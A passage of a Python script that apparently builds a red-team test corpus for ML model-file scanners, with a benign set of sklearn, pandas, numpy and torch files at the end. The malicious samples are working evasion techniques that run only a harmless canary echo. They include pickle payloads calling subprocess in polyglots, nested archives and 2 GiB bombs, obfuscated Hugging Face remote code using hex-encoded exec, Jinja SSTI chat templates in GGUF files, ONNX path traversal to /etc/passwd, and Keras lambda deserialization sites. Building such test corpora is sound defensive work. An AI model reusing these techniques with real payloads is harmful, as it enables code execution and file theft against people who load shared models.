                pb(1, "py") + pb(2, "EagerPyFunc") + pb(3, "r") + pb(5, pb(1, "token") + pb(2, pb(2, "pyfunc_0")))]))

    # 25. opcodes, shapes and nesting a walker may stop at
    add("proto5_bytearray8.pkl", "pickle-walk", "pickle",
        "protocol 5 BYTEARRAY8 + READONLY_BUFFER + POP before the payload",
        b"\x80\x05\x96" + struct.pack("<Q", 3) + b"abc\x980" + pk(call(g("subprocess", "getoutput"), CANARY), 4)[2:])
    add("np_object_empty_shape.npy", "numpy-descr-grammar", "npy",
        "object .npy with shape (0,): np.load still unpickles the body",
        npy("{'descr': '|O', 'fortran_order': True, 'shape': (0,), }", pk(call(g("subprocess", "getoutput"), CANARY), 3)))
    npz_inner = zip_bytes([("arr_0.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
                                             pk(call(g("subprocess", "getoutput"), CANARY), 3)))], zipfile.ZIP_DEFLATED)
    zip_inner = zip_bytes([("weights/weights.npz", npz_inner)], zipfile.ZIP_DEFLATED)
    add("bundle_4_levels.tar.gz", "nested-archive", "tar.gz",
        "tar.gz > zip > npz > object .npy (what `load` with extract: true unpacks)",
        gzip.compress(tar_bytes([("model/inner.zip", zip_inner)]), 6, mtime=0))

    # 26. Hugging Face remote code that does not look like it reaches the shell
    def hf_dir(files: dict[str, str]) -> Callable[[Path], None]:
        def w(path: Path) -> None:
            path.mkdir(parents=True, exist_ok=True)
            for n, t in files.items():
                (path / n).write_text(t)
        return w
    cfg_auto = json.dumps({"model_type": "rte", "architectures": ["RteModel"],
                           "auto_map": {"AutoConfig": "configuration_rte.RteConfig", "AutoModel": "modeling_rte.RteModel"}})
    add("hf_relative_import", "hf-remote-code", "hf-folder",
        "auto_map module is harmless; it imports .rte_utils whose module level runs subprocess",
        hf_dir({"config.json": cfg_auto,
                "configuration_rte.py": "from transformers import PretrainedConfig\n\n\nclass RteConfig(PretrainedConfig):\n    model_type = 'rte'\n",
                "modeling_rte.py": "from transformers import PreTrainedModel\n\nfrom .configuration_rte import RteConfig\nfrom .rte_utils import scale\n\n\n"
                                   "class RteModel(PreTrainedModel):\n    config_class = RteConfig\n",
                "rte_utils.py": "import subprocess\n\nsubprocess.getoutput('echo MLSECOPS-REDTEAM-E-CANARY')\n\n\ndef scale(x):\n    return x\n"}))
    hexsrc = CANARY_PY.encode().hex()
    add("hf_obfuscated_remote_code", "hf-remote-code", "hf-folder",
        "auto_map module runs hex-encoded source through a builtins lookup assembled from strings",
        hf_dir({"config.json": cfg_auto,
                "configuration_rte.py": "from transformers import PretrainedConfig\n\n\nclass RteConfig(PretrainedConfig):\n    model_type = 'rte'\n",
                "modeling_rte.py": "import builtins\n\nfrom transformers import PreTrainedModel\n\n"
                                   f"_f = vars(builtins)['ex' + 'ec']\n_f(bytes.fromhex('{hexsrc}').decode())\n\n\n"
                                   "class RteModel(PreTrainedModel):\n    pass\n"}))
    add("hf_tokenizer_auto_map_list", "hf-remote-code", "hf-folder",
        "tokenizer_config.json auto_map in list form [slow, fast] pointing to tokenization_rte.py",
        hf_dir({"tokenizer_config.json": json.dumps({"tokenizer_class": "RteTokenizer",
                                                     "auto_map": {"AutoTokenizer": ["tokenization_rte.RteTokenizer", None]}}),
                "tokenization_rte.py": "import os\n\nos.popen('echo MLSECOPS-REDTEAM-E-CANARY').read()\n\n"
                                       "from transformers import PreTrainedTokenizer\n\n\nclass RteTokenizer(PreTrainedTokenizer):\n    pass\n"}))

    # 27. content that does not look like a pickle or looks like another container first
    add("vocab.txt", "format-sniffing", "pickle", "protocol-0 pickle that opens with STRING+POP (\"S'hello'\") and reads as text",
        b"S'hello'\n0S'world'\n0" + b"csubprocess\ngetoutput\n(S'" + CANARY.encode() + b"'\ntR.")
    add("README", "format-sniffing", "pickle", "protocol-0 pickle opening with INT+POP ('I1'), no extension",
        b"I1\n0" + b"csubprocess\ngetoutput\n(S'" + CANARY.encode() + b"'\ntR.")
    add("polyglot_pickle_then_torchzip.pt", "format-sniffing", "torch-legacy",
        "malicious legacy-torch pickle stream with a clean torch zip appended (zipfile opens it; torch.load sees no PK at 0)",
        legacy_torch(pk(call(g("subprocess", "getoutput"), CANARY))) + torch_zip(clean))
    add("npy_then_npz_polyglot.npy", "format-sniffing", "npy",
        "object .npy (np.load reads it: no PK at 0) with a clean .npz appended (zipfile opens it)",
        npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", pk(call(g("subprocess", "getoutput"), CANARY), 3))
        + zip_bytes([("a.npy", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", b"\x00" * 8))]))

    # 28. payload behind 2 GiB of decompressed padding (scanner budget / memory), ~2 MB on disk
    def bomb(kind: str) -> bytes:
        n = 2 << 30
        head = b"\x80\x04\x8e" + struct.pack("<Q", n)
        tail = b"0" + pk(call(g("subprocess", "getoutput"), CANARY), 4)[2:]
        c = zlib.compressobj(9, zlib.DEFLATED, 31 if kind == "gzip" else 15)
        out_b = [c.compress(head)]
        chunk = b"\x00" * (16 << 20)
        for _ in range(n // len(chunk)):
            out_b.append(c.compress(chunk))
        out_b.append(c.compress(tail))
        out_b.append(c.flush())
        return b"".join(out_b)
    if BOMBS:  # opt-in: ~2 minutes to write on the 2-core machine, and 2 GiB for a loader to inflate
        add("bomb_2gib.joblib", "decompression-budget", "joblib",
            "zlib joblib stream: BINBYTES8 of 2 GiB zeros, POP, then the payload", bomb("zlib"))
        add("bomb_2gib.pkl.gz", "decompression-budget", "pandas",
            "gzip pickle (pandas read_pickle infers gzip): 2 GiB BINBYTES8 padding before the payload", bomb("gzip"))

    # 23. sample names and places a directory walk may mishandle
    add(os.fsdecode(b"bad-\xff-name.pkl"), "walk-and-naming", "pickle", "file name with an invalid UTF-8 byte", p)
    add("line\nbreak.pkl", "walk-and-naming", "pickle", "file name containing a newline", p)
    add(".hidden_model.pkl", "walk-and-naming", "pickle", "dot-file (hidden) pickle", p)

    def hidden_dir(path: Path) -> None:
        (path / ".cache" / "huggingface").mkdir(parents=True, exist_ok=True)
        (path / ".cache" / "huggingface" / "pytorch_model.bin").write_bytes(torch_zip(p))
    add("hf_cache_dir", "walk-and-naming", "folder", "torch zip under a hidden .cache/huggingface/ directory", hidden_dir)

    def deep_dir(path: Path) -> None:
        d = path
        for i in range(40):
            d = d / f"d{i}"
        d.mkdir(parents=True, exist_ok=True)
        (d / "model.pkl").write_bytes(p)
    add("deep_tree", "walk-and-naming", "folder", "payload 40 directories deep", deep_dir)

    def many_files(path: Path) -> None:
        path.mkdir(parents=True, exist_ok=True)
        for i in range(1500):
            (path / f"shard_{i:05d}.pkl").write_bytes(clean)
        (path / "zz_last.pkl").write_bytes(p)
    add("many_shards", "walk-and-naming", "folder", "1500 clean pickles then one malicious (file-count budget)", many_files)

    # 12. memo indirection: the callable is fetched from the memo far from where it was pushed
    body2 = (g("subprocess", "getoutput") + b"r\xff\xff\xff\x7f0" + b"".join(lit(i) + b"0" for i in range(200))
             + b"j\xff\xff\xff\x7f(" + lit(CANARY) + b"tR")
    add("memo_long_binget.pkl", "memo-indirection", "pickle",
        "GLOBAL stored with LONG_BINPUT 0x7fffffff, POPped, 200 filler ops, fetched with LONG_BINGET and called",
        pk(body2))

    # 13. numpy header grammar: titles, u-prefix, key order, comments
    obj_body = pk(call(g("subprocess", "getoutput"), CANARY), 3)
    add("np_descr_titles.npy", "numpy-descr-grammar", "npy", "structured descr with a field title: [(('t','f'), '|O')]",
        npy("{'descr': [(('t', 'f'), '|O')], 'fortran_order': False, 'shape': (1,), }", obj_body))
    add("np_descr_uprefix.npy", "numpy-descr-grammar", "npy", "descr written as u'|O' (literal_eval accepts the u prefix)",
        npy("{'descr': u'|O', 'fortran_order': False, 'shape': (1,), }", obj_body))
    add("np_descr_O8.npy", "numpy-descr-grammar", "npy", "descr '>O8' (byte order + itemsize spelled out)",
        npy("{'descr': '>O8', 'fortran_order': False, 'shape': (1,), }", obj_body))
    add("np_key_order.npy", "numpy-descr-grammar", "npy", "header keys reordered (shape, fortran_order, descr) with extra spaces",
        npy("{ 'shape' : (1,) , 'fortran_order' : False , 'descr' : '|O' }", obj_body))
    add("np_triple_quoted.npy", "numpy-descr-grammar", "npy", "descr as a triple-quoted string '''|O'''",
        npy("{'descr': '''|O''', 'fortran_order': False, 'shape': (1,), }", obj_body))
    add("np_v2_titles.npz", "numpy-descr-grammar", "npz", "npz member in .npy format 2.0 with a titled object field",
        zip_bytes([("arr_0.npy", npy("{'descr': [(('weights', 'w'), '<f8'), (('meta', 'm'), '|O')], 'fortran_order': False, 'shape': (1,), }",
                                     obj_body, (2, 0)))]))

    # 20. only names a saver emits: builtins.getattr on a trusted class or on a loaded instance (the
    #     shape pandas uses for getattr(zoneinfo.ZoneInfo, '_unpickle')), and trusted reconstructors
    #     that call an argument
    S.extend(_trusted_only())

    # 14-16. Keras: deserialization sites other than a Lambda layer, encodings the loader accepts
    S.extend(_keras_malicious())

    # 17. GGUF chat-template SSTI (llama-cpp-python style unsandboxed jinja) under parser confusion
    ssti = "{{ cycler.__init__.__globals__.os.popen('echo MLSECOPS-REDTEAM-E-CANARY').read() }}"
    obf = ("{% set u = '_' * 2 %}{{ (lipsum|attr(u ~ 'glo' ~ 'bals' ~ u))['o' ~ 's']|attr('po' ~ 'pen')"
           "('echo MLSECOPS-REDTEAM-E-' ~ 'CANARY') }}")
    base = [("general.architecture", 8, "llama"), ("general.name", 8, "rte-e")]
    add("ssti_obfuscated.gguf", "gguf-template", "gguf", "chat template builds '__globals__'/'os'/'popen' by concatenation + attr filter",
        gguf(base + [("tokenizer.chat_template", 8, obf)]))
    fmt_dunder = ('{%- set u = "%c%c"|format(95, 95) -%}{%- set g = raise_exception[u ~ "glob" ~ "als" ~ u] -%}'
                  '{{ g["o" ~ "s"]["po" ~ "pen"]("echo MLSECOPS-REDTEAM-E-" ~ "CANARY")["re" ~ "ad"]() }}')
    add("ssti_format_subscript.gguf", "gguf-template", "gguf",
        "dunders built with '%c%c'|format(95,95), attribute access by subscript on raise_exception (no attr filter)",
        gguf(base + [("tokenizer.chat_template", 8, fmt_dunder)]))
    mro = ('{%- set u = "%c%c"|format(95, 95) -%}{%- set c = ""[u ~ "cla" ~ "ss" ~ u][u ~ "mro" ~ u][1] -%}'
           '{%- for k in c[u ~ "subcla" ~ "sses" ~ u]() if k[u ~ "name" ~ u] == "Po" ~ "pen" -%}'
           '{{ k(["sh", "-c", "echo MLSECOPS-REDTEAM-E-CANARY"]) }}{%- endfor -%}')
    add("ssti_mro_walk.gguf", "gguf-template", "gguf",
        "str -> class -> mro -> subclasses() -> Popen, every name assembled at render time",
        gguf(base + [("tokenizer.chat_template", 8, mro)]))
    add("ssti_big_endian.gguf", "gguf-template", "gguf", "big-endian GGUF v3 (gguf-py byte-swaps) carrying an SSTI template",
        gguf(base + [("tokenizer.chat_template", 8, ssti)], big_endian=True))
    add("ssti_after_nested_array.gguf", "gguf-template", "gguf", "an array-of-arrays KV precedes the SSTI template",
        gguf(base + [("rte.nested", 9, (9, [(4, [1, 2]), (8, ["a", "b"])])), ("tokenizer.chat_template", 8, ssti)]))

    # 18. ONNX external data in less-visited places
    g_sparse = onnx_graph([], sparse=[pb(1, onnx_tensor("w", "../../../../../etc/passwd")) + pb(2, pb(1, 1) + pb(2, 7) + pb(8, "i") + pb(7, 0)) + pb(3, 4)])
    add("onnx_sparse_external.onnx", "onnx-external-data", "onnx", "sparse_initializer.values with external location ../../../../../etc/passwd",
        onnx_model(g_sparse))
    tinfo = pb(1, onnx_graph([onnx_tensor("w", "/etc/passwd")])) + pb(2, onnx_graph([]))
    add("onnx_training_info.onnx", "onnx-external-data", "onnx", "ModelProto.training_info initialization graph initializer at /etc/passwd",
        onnx_model(onnx_graph([onnx_tensor("w")]), training=tinfo))
    add("onnx_dup_location.onnx", "onnx-external-data", "onnx", "two 'location' entries: 'w.bin' then '/etc/hostname' (onnx keeps the last)",
        onnx_model(onnx_graph([onnx_tensor("w", "w.bin", ["/etc/hostname"])])))
    add("onnx_prefix_traversal.onnx", "onnx-external-data", "onnx", "location 'weights/./../../../../etc/hostname'",
        onnx_model(onnx_graph([onnx_tensor("w", "weights/./../../../../etc/hostname")])))

    def onnx_link_dir(path: Path) -> None:
        path.mkdir(parents=True, exist_ok=True)
        (path / "model.onnx").write_bytes(onnx_model(onnx_graph([onnx_tensor("w", "weights.bin")])))
        (path / "weights.bin").symlink_to("/etc/passwd")
    add("onnx_symlinked_weights", "onnx-external-data", "onnx-folder",
        "in-folder location 'weights.bin' that is a symlink to /etc/passwd", onnx_link_dir)

    # 19. HF custom pipeline code
    def hf_pipe(path: Path) -> None:
        path.mkdir(parents=True, exist_ok=True)
        (path / "config.json").write_text(json.dumps({
            "model_type": "bert", "architectures": ["BertModel"],
            "custom_pipelines": {"rte-task": {"impl": "rte_pipe.RtePipeline", "pt": ["AutoModel"], "tf": [], "type": "text"}}}))
        (path / "rte_pipe.py").write_text("import os\nos.system('echo MLSECOPS-REDTEAM-E-CANARY')\n"
                                          "from transformers import Pipeline\nclass RtePipeline(Pipeline):\n    pass\n")
    add("hf_custom_pipeline", "hf-remote-code", "hf-folder", "config.json custom_pipelines impl -> rte_pipe.py (module-level os.system)", hf_pipe)
    return S


def frag(obj: Any) -> Raw:
    """The opcodes of a library object's own pickle, without PROTO and STOP, to embed as a value."""
    b = pickle.dumps(obj, protocol=2)
    return Raw(b[2:-1])


def _trusted_only() -> list[Sample]:
    out: list[Sample] = []
    try:
        import numpy as np
        import pandas as pd
    except ImportError:
        return out
    GA = g("builtins", "getattr")

    def ga(target: bytes, name: str) -> Raw:
        return Raw(GA + b"(" + bytes(target) + lit(name) + b"tR")

    df = frag(pd.DataFrame({"a": [1, 2]}))
    arr = frag(np.arange(3, dtype="u1"))
    out.append(("getattr_df_to_csv.pkl", "trusted-names-only", "pickle",
                "getattr(pandas.core.frame.DataFrame, 'to_csv')(<real DataFrame pickle>, '/tmp/...')",
                pk(call(ga(g("pandas.core.frame", "DataFrame"), "to_csv"), df, TMPF))))
    out.append(("getattr_ndarray_tofile.pkl", "trusted-names-only", "pickle",
                "getattr(numpy.ndarray, 'tofile')(<real ndarray pickle>, '/tmp/...')",
                pk(call(ga(g("numpy", "ndarray"), "tofile"), arr, TMPF))))
    out.append(("getattr_ndarray_dump.joblib", "trusted-names-only", "joblib",
                "getattr(numpy.ndarray, 'dump')(arr, '/tmp/...') pickles the array into a file",
                pk(call(ga(g("numpy", "ndarray"), "dump"), arr, TMPF))))
    out.append(("getattr_floatstorage_from_file.pt", "trusted-names-only", "torch-zip",
                "getattr(torch.FloatStorage, 'from_file')('/tmp/...', True, 4096) creates/extends a shared file",
                torch_zip(pk(call(ga(g("torch", "FloatStorage"), "from_file"), TMPF, True, 4096)))))
    out.append(("getattr_bound_to_pickle.pkl", "trusted-names-only", "pickle",
                "getattr(<loaded DataFrame>, 'to_pickle') bound method, called with '/tmp/...'",
                pk(call(ga(df, "to_pickle"), TMPF))))
    out.append(("rebuild_from_type_calls_getattr.pt", "trusted-names-only", "torch-zip",
                ("torch._tensor._rebuild_from_type_v2(getattr(torch.FloatStorage,'from_file'), torch.Tensor, args, {}): "
                 "the callable is a load-time value and is called inside the reconstructor, not by REDUCE"),
                torch_zip(pk(call(g("torch._tensor", "_rebuild_from_type_v2"), ga(g("torch", "FloatStorage"), "from_file"),
                                  Raw(g("torch", "Tensor")), (TMPF, True, 4096), {})))))
    out.append(("rebuild_from_type_bound_tofile.pt", "trusted-names-only", "torch-zip",
                "_rebuild_from_type_v2(getattr(<loaded ndarray>, 'tofile'), torch.Tensor, ('/tmp/...',), {})",
                torch_zip(pk(call(g("torch._tensor", "_rebuild_from_type_v2"), ga(arr, "tofile"),
                                  Raw(g("torch", "Tensor")), (TMPF,), {})))))
    out.append(("randomstate_ctor_calls_arg.pkl", "trusted-names-only", "pickle",
                ("numpy.random._pickle.__randomstate_ctor('/tmp/...', getattr(<loaded DataFrame>, 'to_csv')) "
                 "calls its 2nd argument with the 1st"),
                pk(call(g("numpy.random._pickle", "__randomstate_ctor"), TMPF, ga(df, "to_csv")))))
    out.append(("bitgen_ctor_calls_type.pkl", "trusted-names-only", "pickle",
                ("numpy.random._pickle.__bit_generator_ctor(pandas DataFrame) instantiates a class; the new frame's "
                 "bound to_csv is handed to __randomstate_ctor, which calls it with '/tmp/...'"),
                pk(call(g("numpy.random._pickle", "__randomstate_ctor"), TMPF,
                        ga(call(g("numpy.random._pickle", "__bit_generator_ctor"), Raw(g("pandas.core.frame", "DataFrame"))), "to_csv")))))
    # numpy object arrays whose body pickle does not start with PROTO
    p0 = b"csubprocess\ngetoutput\n(V" + CANARY.encode() + b"\ntR."
    out.append(("np_object_proto0_body.npy", "numpy-descr-grammar", "npy",
                "object .npy whose array pickle is protocol 0 (no \\x80 PROTO opcode)",
                npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", p0)))
    fr = b"\x80\x04\x95" + struct.pack("<Q", 0) + pk(call(g("subprocess", "getoutput"), CANARY), 4)[2:]
    out.append(("np_object_frame_body.npy", "numpy-descr-grammar", "npy",
                "object .npy whose array pickle is protocol 4 with a zero-length FRAME first",
                npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", fr)))
    return out


def _keras_malicious() -> list[Sample]:
    out: list[Sample] = []
    try:
        os.environ.setdefault("KERAS_BACKEND", "torch")
        import keras
    except ImportError:
        return out
    keras.utils.set_random_seed(0)
    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2, name="dense")])
    buf = io.BytesIO()
    tmp = Path("/tmp") / f"rte-e-keras-{os.getpid()}.keras"
    model.save(tmp)
    with zipfile.ZipFile(tmp) as z:
        members = {n: z.read(n) for n in z.namelist()}
    tmp.unlink()
    cfg = json.loads(members["config.json"])
    payload_fn = eval("lambda x: __import__('os').system('echo MLSECOPS-REDTEAM-E-CANARY') or x")  # never called
    raw_code = base64.b64encode(marshal.dumps(payload_fn.__code__)).decode()
    lam = {"class_name": "__lambda__", "config": {"value": [raw_code, None, None]}}

    def keras_zip(c: dict | bytes, dup_first: bytes | None = None) -> bytes:
        data = c if isinstance(c, bytes) else json.dumps(c).encode()
        mem = [("metadata.json", members["metadata.json"])]
        if dup_first is not None:
            mem.append(("config.json", dup_first))
        mem += [("config.json", data), ("model.weights.h5", members["model.weights.h5"])]
        b = io.BytesIO()
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            with zipfile.ZipFile(b, "w") as z:
                for n, d in mem:
                    z.writestr(zipfile.ZipInfo(n, date_time=ZIP_TIME), d)
        return b.getvalue()

    def dense_cfg(c: dict) -> dict:
        return next(layer for layer in c["config"]["layers"] if layer["class_name"] == "Dense")

    c1 = json.loads(json.dumps(cfg))
    dense_cfg(c1)["config"]["activation"] = lam
    out.append(("dense_activation_lambda.keras", "keras-deserialization-site", "keras",
                "Dense activation is a serialized __lambda__ (marshal code), no Lambda layer", keras_zip(c1)))
    c2 = json.loads(json.dumps(cfg))
    dense_cfg(c2)["config"]["kernel_regularizer"] = lam
    out.append(("regularizer_lambda.keras", "keras-deserialization-site", "keras",
                "kernel_regularizer is a __lambda__", keras_zip(c2)))
    tm = torch_zip(pk(call(g("subprocess", "getoutput"), CANARY)))
    c3 = json.loads(json.dumps(cfg))
    c3["config"]["layers"].insert(1, {"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
                                      "config": {"name": "tmw", "trainable": True, "dtype": "float32",
                                                 "module": base64.b64encode(tm).decode(), "output_shape": None}})
    out.append(("torch_module_wrapper.keras", "keras-deserialization-site", "keras",
                "TorchModuleWrapper config 'module' = base64 torch.save bytes (torch.load weights_only=False)", keras_zip(c3)))
    c4 = json.loads(json.dumps(cfg))
    c4["config"]["layers"].insert(1, {"module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
                                      "config": {"name": "sl", "trainable": False, "dtype": "int64",
                                                 "vocabulary": "/etc/passwd", "output_mode": "int"}})
    out.append(("stringlookup_vocab_file.keras", "keras-deserialization-site", "keras",
                "StringLookup vocabulary='/etc/passwd' reads a local file at load (even in safe mode)", keras_zip(c4)))
    for cls_name, vocab, extra in [("IntegerLookup", "/etc/passwd", {"output_mode": "int"}),
                                   ("TextVectorization", "/etc/hostname", {"output_mode": "int", "max_tokens": 10})]:
        ck = json.loads(json.dumps(cfg))
        ck["config"]["layers"].insert(1, {"module": "keras.layers", "class_name": cls_name, "registered_name": None,
                                          "config": {"name": "v", "trainable": False, "vocabulary": vocab, **extra}})
        out.append((f"{cls_name.lower()}_vocab_file.keras", "keras-deserialization-site", "keras",
                    f"{cls_name} vocabulary='{vocab}' reads a local file at load", keras_zip(ck)))
    c5 = json.loads(json.dumps(cfg))
    c5["config"]["layers"].insert(1, {"module": "keras.layers", "class_name": "TimeDistributed", "registered_name": None,
                                      "config": {"name": "td", "layer": {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
                                                                         "config": {"name": "inner", "function": lam, "arguments": {}}}}})
    out.append(("timedistributed_inner_lambda.keras", "keras-deserialization-site", "keras",
                "Lambda nested as the wrapped layer of TimeDistributed", keras_zip(c5)))
    c6 = json.loads(json.dumps(cfg))
    dense_cfg(c6)["config"]["activation"] = lam
    out.append(("config_utf16.keras", "keras-config-encoding", "keras",
                "config.json in UTF-16-LE without BOM (json.loads(bytes) detects it); Dense activation __lambda__",
                keras_zip(json.dumps(c6).encode("utf-16-le"))))
    esc = json.dumps(c6).replace('"__lambda__"', '"\\u005f\\u005flambda\\u005f\\u005f"').replace('"activation"', '"\\u0061ctivation"')
    out.append(("config_json_escapes.keras", "keras-config-encoding", "keras",
                "'__lambda__' and 'activation' spelled with JSON \\u escapes", keras_zip(esc.encode())))
    out.append(("config_duplicate_member.keras", "keras-config-encoding", "keras",
                "two config.json records: first clean, second (the one zipfile opens) malicious",
                keras_zip(c6, dup_first=members["config.json"])))
    bz = io.BytesIO()
    with zipfile.ZipFile(bz, "w") as z:
        for n, d in [("metadata.json", members["metadata.json"]), ("config.json", json.dumps(c1).encode()),
                     ("model.weights.h5", members["model.weights.h5"])]:
            zi = zipfile.ZipInfo(n, date_time=ZIP_TIME)
            zi.compress_type = zipfile.ZIP_BZIP2 if n == "config.json" else zipfile.ZIP_STORED
            z.writestr(zi, d)
    out.append(("config_bzip2_member.keras", "zip-member-compression", "keras",
                "config.json stored BZIP2-compressed in the .keras zip (zipfile reads it); Dense activation __lambda__",
                bz.getvalue()))
    # a Keras model pickled through Keras' own __reduce__ (loaded with safe_mode=False)
    kz = keras_zip(c1)
    kp = Raw(g("builtins", "getattr") + b"(" + g("keras.src.models.sequential", "Sequential") + lit("_unpickle_model") + b"tR")
    bio = call(g("_io", "BytesIO"), kz)
    out.append(("keras_model_pickle.pkl", "keras-deserialization-site", "pickle",
                "pickle of Sequential._unpickle_model(BytesIO(.keras zip)) - Keras loads it with safe_mode=False",
                pk(Raw(kp + b"(" + bio + b"tR"), 4)))

    def h5_writer(path: Path) -> None:
        import h5py
        with h5py.File(path, "w", track_order=False) as f:
            f.attrs["model_config"] = esc.encode()
            f.attrs["keras_version"] = keras.__version__
            f.attrs["backend"] = "torch"
            f.create_group("model_weights")
    out.append(("h5_model_config_escapes.h5", "keras-config-encoding", "h5",
                "legacy .h5 model_config whose '__lambda__' is written with JSON \\u escapes", h5_writer))
    del buf
    return out


# --------------------------------------------------------------------------- benign set
def benign(dest: Path) -> list[tuple[str, str, str, str]]:
    rows: list[tuple[str, str, str, str]] = []

    def rec(name: str, cls: str, fmt: str, tech: str) -> None:
        rows.append((name, cls, fmt, tech))

    import warnings
    warnings.filterwarnings("ignore")
    import numpy as np
    rng = np.random.default_rng(0)
    X = rng.normal(size=(60, 4))
    Xp = np.abs(X)
    y = (X[:, 0] > 0).astype(int)
    yr = X[:, 1] * 2.0
    import joblib
    from sklearn.cluster import DBSCAN, KMeans
    from sklearn.compose import TransformedTargetRegressor
    from sklearn.decomposition import NMF, PCA, TruncatedSVD
    from sklearn.ensemble import (
        BaggingClassifier,
        IsolationForest,
        StackingClassifier,
        VotingClassifier,
    )
    from sklearn.feature_extraction.text import CountVectorizer
    from sklearn.linear_model import LinearRegression, LogisticRegression, SGDClassifier
    from sklearn.mixture import GaussianMixture
    from sklearn.neighbors import KernelDensity
    from sklearn.neural_network import MLPRegressor
    from sklearn.preprocessing import (
        LabelBinarizer,
        OneHotEncoder,
        PolynomialFeatures,
        QuantileTransformer,
        SplineTransformer,
    )
    from sklearn.tree import DecisionTreeClassifier
    cats = np.array([["red", "s"], ["blue", "m"], ["green", "l"], ["red", "m"]] * 5, dtype=object)
    ests: list[tuple[str, Any]] = [
        ("isolation_forest", IsolationForest(n_estimators=10, random_state=0).fit(X)),
        ("kernel_density", KernelDensity(bandwidth=0.5).fit(X)),
        ("gaussian_mixture", GaussianMixture(2, random_state=0).fit(X)),
        ("nmf", NMF(2, init="nndsvda", random_state=0, max_iter=50).fit(Xp)),
        ("quantile_transformer", QuantileTransformer(n_quantiles=20).fit(X)),
        ("spline_transformer", SplineTransformer(n_knots=4).fit(X)),
        ("polynomial_features", PolynomialFeatures(2).fit(X)),
        ("onehot_categories", OneHotEncoder(categories=[["blue", "green", "red"], ["s", "m", "l"]],
                                            handle_unknown="ignore").fit(cats)),
        ("sgd_classifier", SGDClassifier(random_state=0).fit(X, y)),
        ("mlp_regressor", MLPRegressor(hidden_layer_sizes=(5,), max_iter=50, random_state=0).fit(X, yr)),
        ("bagging", BaggingClassifier(DecisionTreeClassifier(max_depth=2), n_estimators=3, random_state=0).fit(X, y)),
        ("voting", VotingClassifier([("lr", LogisticRegression()), ("dt", DecisionTreeClassifier(max_depth=2))],
                                    voting="soft").fit(X, y)),
        ("stacking", StackingClassifier([("dt", DecisionTreeClassifier(max_depth=2, random_state=0))],
                                        LogisticRegression(), cv=2).fit(X, y)),
        ("transformed_target", TransformedTargetRegressor(LinearRegression(), func=np.log1p, inverse_func=np.expm1,
                                                          check_inverse=False).fit(Xp, np.abs(yr))),
        ("kmeans", KMeans(3, n_init=2, random_state=0).fit(X)),
        ("dbscan", DBSCAN(eps=0.9).fit(X)),
        ("pca", PCA(2, random_state=0).fit(X)),
        ("truncated_svd", TruncatedSVD(2, random_state=0).fit(X)),
        ("label_binarizer", LabelBinarizer().fit(["cat", "dog", "emu"])),
        ("count_vectorizer", CountVectorizer(tokenizer=None).fit(["a red fox", "the blue sky", "red sky at night"])),
    ]
    fmts = ["pickle", "joblib", "joblib-zlib", "skops"]
    import skops.io as sio
    for i, (name, est) in enumerate(ests):
        for f in ([fmts[i % 4], fmts[(i + 1) % 4]]):
            if f == "pickle":
                fn = f"{name}.pkl"
                (dest / fn).write_bytes(pickle.dumps(est, protocol=pickle.DEFAULT_PROTOCOL))
            elif f == "joblib":
                fn = f"{name}.joblib"
                joblib.dump(est, dest / fn)
            elif f == "joblib-zlib":
                fn = f"{name}.z.joblib"
                joblib.dump(est, dest / fn, compress=3)
            else:
                fn = f"{name}.skops"
                sio.dump(est, dest / fn)
            rec(fn, "sklearn", f, f"{type(est).__name__} via {f}")

    import pandas as pd
    frames = {
        "pd_categorical.pkl": pd.DataFrame({"c": pd.Categorical(["a", "b", "a"], categories=["a", "b", "z"], ordered=True)}),
        "pd_period.pkl": pd.DataFrame({"p": pd.period_range("2024-01", periods=3, freq="M")}),
        "pd_interval.pkl": pd.DataFrame({"i": pd.interval_range(0, 3)}),
        "pd_multiindex.pkl": pd.DataFrame({"v": [1, 2, 3, 4]},
                                          index=pd.MultiIndex.from_product([["x", "y"], [1, 2]], names=["k", "n"])),
        "pd_sparse.pkl": pd.DataFrame({"s": pd.arrays.SparseArray([0, 0, 1.5, 0])}),
    }
    for fn, frame in frames.items():
        frame.to_pickle(dest / fn)
        rec(fn, "pandas", "pandas", "DataFrame.to_pickle")
    frames["pd_categorical.pkl"].to_pickle(dest / "pd_categorical.pkl.xz")
    rec("pd_categorical.pkl.xz", "pandas", "pandas", "DataFrame.to_pickle xz")
    pd.Series(pd.date_range("2024-01-01", periods=3, tz="Europe/Paris")).to_pickle(dest / "pd_series_tz.pkl.bz2")
    rec("pd_series_tz.pkl.bz2", "pandas", "pandas", "Series.to_pickle bz2 tz-aware")

    np.save(dest / "np_structured.npy", np.array([(1, 2.0, b"ab")], dtype=[("a", "<i4"), ("b", "<f8"), ("c", "S2")]))
    np.save(dest / "np_unicode.npy", np.array(["alpha", "βeta", "gamma"]))
    np.save(dest / "np_datetime.npy", np.array(["2024-01-01", "2024-06-30"], dtype="datetime64[D]"))
    np.savez(dest / "np_mixed.npz", s=np.array(["x", "yy"]), t=np.arange(3, dtype="timedelta64[s]"), f=np.eye(2))
    np.savez_compressed(dest / "np_titled.npz", r=np.zeros(2, dtype=[(("weight", "w"), "<f4"), ("id", "<i8")]))
    for fn in ["np_structured.npy", "np_unicode.npy", "np_datetime.npy", "np_mixed.npz", "np_titled.npz"]:
        rec(fn, "numpy", "npy" if fn.endswith("npy") else "npz", "np.save / np.savez")

    import torch
    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    opt = torch.optim.AdamW(net.parameters(), lr=1e-3)
    net(torch.randn(3, 4)).sum().backward()
    opt.step()
    sched = torch.optim.lr_scheduler.OneCycleLR(opt, max_lr=0.1, total_steps=10)
    torch.save(opt.state_dict(), dest / "optimizer.pt")
    torch.save(sched.state_dict(), dest / "scheduler.pt")
    torch.save({"epoch": 3, "model": net.state_dict(), "optim": opt.state_dict(),
                "extra": {"nested": {"lrs": [0.1, 0.01], "name": "run-1"}}}, dest / "checkpoint.ckpt")
